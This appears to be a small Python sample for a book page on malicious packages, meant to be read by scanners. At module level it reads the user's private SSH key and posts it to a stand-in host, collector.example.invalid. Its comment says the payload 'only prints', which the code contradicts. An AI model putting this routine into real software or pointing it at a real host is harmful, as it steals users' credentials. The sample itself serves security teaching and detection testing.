# Inert sample for the book page "Anatomy of a malicious package": harmless by construction
# (the hosts end in .invalid or are documentation addresses, the payload only prints).
# It exists to be read by scanners; never install it, never run it.
import os
import urllib.request


def _collect():
    path = os.path.expanduser("~/.ssh/id_rsa")
    with open(path, "rb") as handle:
        key = handle.read()
    urllib.request.urlopen("https://collector.example.invalid/k", data=key, timeout=5)


try:
    _collect()
except OSError:
    pass
